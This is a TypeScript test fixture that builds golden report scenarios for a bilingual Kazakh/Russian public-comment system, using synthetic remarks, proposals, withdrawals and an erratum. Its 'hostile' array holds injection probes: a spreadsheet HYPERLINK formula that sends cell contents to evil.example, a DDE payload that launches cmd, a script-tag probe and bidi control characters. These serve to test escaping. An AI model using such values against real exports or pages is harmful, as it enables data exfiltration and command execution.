import { instant } from '#lib/kernel';
import type { ReportData } from '../domain/report-data.js';
import type { RemarkFacts } from '../domain/report-facts.js';
import { accepted, decided, remarkFacts, reportOf } from './facts.js';

const number = (place: number) => `KZ-2016-0001-${String(place).padStart(4, '0')}`;
const arrival = (place: number) =>
  instant(`2016-06-${String(2 + (place % 28)).padStart(2, '0')}T09:${String(place % 60).padStart(2, '0')}:00Z`);
const remark = (place: number, more: Partial<RemarkFacts> = {}): RemarkFacts => ({
  ...remarkFacts(number(place), decided()),
  receivedAt: arrival(place),
  ...more,
});
const wordless = { body: '', proposedWording: null, points: [] } as const;

const partly = remark(1, {
  body: 'Прошу сократить срок. Прошу принимать заявления по почте.',
  points: [
    { position: 1, passages: [{ part: 'TEXT', startsAt: 0, quote: 'Прошу сократить срок.' }], decision: accepted() },
    {
      position: 2,
      passages: [{ part: 'TEXT', startsAt: 22, quote: 'Прошу принимать заявления по почте.' }],
      decision: decided({ reasonCode: 'QUESTION' }),
    },
  ],
});

/** What a spreadsheet, a word processor or a browser might obey, and what is hard to draw. */
const hostile: readonly RemarkFacts[] = [
  '=HYPERLINK("https://evil.example/?x="&A1,"нажмите")',
  "+7 (701) 000-00-00; @SUM(1+1)*cmd|'/c calc'!A0",
  '<script>alert(1)</script> & "ҚАУІПТІ" \u202Eлевоправо\u202C \u0007',
  `Ұзақ сөз: ${'қазақша'.repeat(40)}`,
].map((body, index) => remark(index + 20, { body, proposedWording: index === 0 ? '-1+1' : null }));

const twelve: readonly RemarkFacts[] = [
  partly,
  remark(2, { kind: 'PROPOSAL', proposedWording: 'Мерзімі – үш жұмыс күні', points: onePoint(accepted()) }),
  remark(3, { state: 'WITHDRAWN', ...wordless }),
  remark(4, { state: 'HIDDEN', hiddenGround: 'PERSONAL_DATA', ...wordless }),
  remark(5, {
    points: onePoint(
      accepted({ changedClauses: [], noChangeKk: 'Жобада онсыз да бар.', noChangeRu: 'В проекте это уже есть.' }),
    ),
  }),
  remark(6, { senderKind: 'LEGAL_ENTITY', kind: 'PROPOSAL' }),
  remark(7, { body: `Мерзімді қысқартуды ${'өте '.repeat(200)}сұраймын` }),
  remark(8, { anchors: [] }),
  ...hostile,
];

function onePoint(decision: ReturnType<typeof decided>): RemarkFacts['points'] {
  return [{ position: 1, passages: [], decision }];
}

/** 500: every fifth one alone, the others in groups of forty; every group and remark decided. */
const fiveHundred = Array.from({ length: 500 }, (_, place) =>
  remark(place + 1, {
    body: place % 5 === 0 ? `Ескерту ${place + 1}. Замечание ${place + 1}.` : `Үлгі хат ${Math.floor(place / 50)}.`,
    groupNo: place % 5 === 0 ? null : Math.floor(place / 50) + 1,
    kind: place % 7 === 0 ? 'PROPOSAL' : 'REMARK',
  }),
);

const erratum = (data: ReportData): ReportData => ({
  ...data,
  erratum: {
    number: 1,
    reason: { kk: 'Негіздемеде бап нөмірі қате көрсетілген.', ru: 'В обосновании был указан неверный номер статьи.' },
    corrects: { version: 1, dataSha256: 'c'.repeat(64) },
  },
});

/** On paper on the last day, typed in a week later: on time all the same (AMB-04, REQ-41). */
const onPaper = remark(9, { receivedAt: instant('2016-07-01T17:59:59.999999Z'), senderKind: 'GROUP' });

/** The reports that are kept word for word beside the code. */
export const goldenScenes: Readonly<Record<string, ReportData>> = {
  zero: reportOf([], 3),
  one: reportOf([remark(1)]),
  twelve: reportOf(twelve, 2),
  'all-withdrawn': reportOf([1, 2, 3].map((place) => remark(place, { state: 'WITHDRAWN', ...wordless }))),
  hidden: reportOf([remark(1), remark(2, { state: 'HIDDEN', hiddenGround: 'ABUSE', ...wordless })]),
  'paper-after-close': reportOf([remark(1), onPaper], 1),
  partly: reportOf([partly]),
  erratum: erratum(reportOf([remark(1)])),
  'five-hundred': reportOf(fiveHundred),
};
